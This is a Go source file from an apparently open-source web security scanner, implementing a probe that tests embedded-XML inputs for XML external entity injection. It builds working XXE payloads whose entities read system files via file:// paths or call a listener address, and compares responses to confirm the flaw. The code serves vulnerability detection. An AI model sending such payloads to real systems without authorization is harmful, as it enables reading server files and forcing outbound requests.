package check

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/crenel-project/crenel/internal/scan/graph"
	"github.com/crenel-project/crenel/internal/scan/scenario"
)

// XML as a text within another body: {"xml": "<feed>…</feed>"}.

var reEmbeddedName = regexp.MustCompile(`(?i)xml|soap|saml|svg|\brss\b|feed|wsdl`)

// embeddedXML tries entities in texts that are XML themselves: by the input's name, or by
// the parser's complaint about what was sent.
func (p *Probe) embeddedXML(ctx context.Context) error {
	return Each(ctx, p, p.Ops(), func(ctx context.Context, op *graph.Op) error {
		if op.Method == http.MethodDelete || op.Has(graph.Hazard) || op.Has(graph.Logout) || op.Has(graph.Login) || op.Has(graph.Register) || op.Has(graph.PasswordChange) || xmlMedia(op) != "" ||
			!slices.ContainsFunc(op.Inputs, func(in *graph.Input) bool { return embeds(in) && reEmbeddedName.MatchString(in.Name+" "+op.Path) }) {
			return nil
		}
		call, base, err := p.opened(ctx, op)
		if err != nil || call == nil || base == nil || base.Status == http.StatusUnauthorized || base.Status == http.StatusForbidden {
			return err
		}
		for _, in := range op.Inputs {
			if !embeds(in) || !reEmbeddedName.MatchString(in.Name) && !reXMLError.Match(base.Body) {
				continue
			}
			p.Note(op, Clean)
			s := &slot{op: op, in: in, call: call, base: base}
			if done, err := p.embedded(ctx, s); err != nil || done {
				return err
			}
		}
		return nil
	})
}

func embeds(in *graph.Input) bool {
	return (in.In == "body" && in.Pointer != "" || in.In == "query") && takesText(in)
}

// embeddedDocument is a document whose one text is an entity. The root is what the
// target's complaint asks for, if it asks.
func embeddedDocument(root, system string) string {
	return fmt.Sprintf(`<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY crenel SYSTEM "%s">]><%s>&crenel;</%s>`, root, system, root, root)
}

var reWantedRoot = regexp.MustCompile(`(?i)root[^<]{0,40}<([a-z_][\w.-]*)/?>`)

func (p *Probe) embedded(ctx context.Context, s *slot) (bool, error) {
	root := "crenel"
	plain, err := p.send(ctx, s.with("<crenel>crenel</crenel>"))
	if err != nil {
		return false, err
	}
	if m := reWantedRoot.FindSubmatch(plain.Body); m != nil {
		root = string(m[1])
	}
	for _, f := range systemFiles {
		for _, form := range []string{"file:///%s", "/%s"} {
			name := func(path string) string { return strings.ReplaceAll(form, "%s", path) }
			there, err := p.send(ctx, s.with(embeddedDocument(root, name(f.path))))
			if err != nil {
				return false, err
			}
			holds := regexp.MustCompile(f.holds).Match(there.Body)
			missing, err := p.send(ctx, s.with(embeddedDocument(root, name(f.wrong))))
			if err != nil {
				return false, err
			}
			if !holds && there.Status == missing.Status {
				continue
			}
			var l steps
			l.add(p.unechoed(s, "wrong", scenario.Control, "an entity for a file that is not there", embeddedDocument(root, name(f.wrong)), scenario.Expect{Status: "any"}))
			if holds {
				l.add(p.unechoed(s, "attack", scenario.Attack, "one for a file of the system brings the file", embeddedDocument(root, name(f.path)), scenario.Expect{Matches: f.holds, Unlike: "wrong"}))
			} else {
				// Whether the file is there decides what is answered: it was looked for.
				status := strconv.Itoa(there.Status)
				l.add(p.unechoed(s, "plain", scenario.Control, "a document without an entity is answered like that", "<"+root+">crenel</"+root+">", scenario.Expect{Status: status}))
				l.add(p.unechoed(s, "attack", scenario.Attack, "one for a file of the system is answered otherwise", embeddedDocument(root, name(f.path)), scenario.Expect{Status: status, Unlike: "wrong"}))
				l.add(p.unechoed(s, "wrong2", scenario.Attack, "one for another file that is not there is not", embeddedDocument(root, name(f.wrong+"x")), scenario.Expect{Status: strconv.Itoa(missing.Status)}))
				l.add(p.unechoed(s, "again", scenario.Attack, "and the first again is", embeddedDocument(root, name(f.path)), scenario.Expect{Status: status}))
			}
			if ok, err := p.injected(ctx, s, "XML external entity", "An entity that the document in the text declares is read from the server's files.", &l); err != nil || ok {
				return ok, err
			}
		}
	}
	if p.Listener == nil {
		return false, nil
	}
	st, err := p.slotStep(s, "attack", scenario.Attack, "an entity at the listener's address is fetched", embeddedDocument(root, "${listener.call}"), scenario.Expect{Status: "any"}, scenario.Expect{Called: "call", By: time.Second})
	var l steps
	l.add(p.slotStep(s, "plain", scenario.Control, "a document without an entity", "<"+root+">plain</"+root+">", scenario.Expect{Status: "any"}))
	l.add(st, err)
	return p.injected(ctx, s, "XML external entity", "An entity that the document in the text declares makes the server call an address that the caller names.", &l)
}
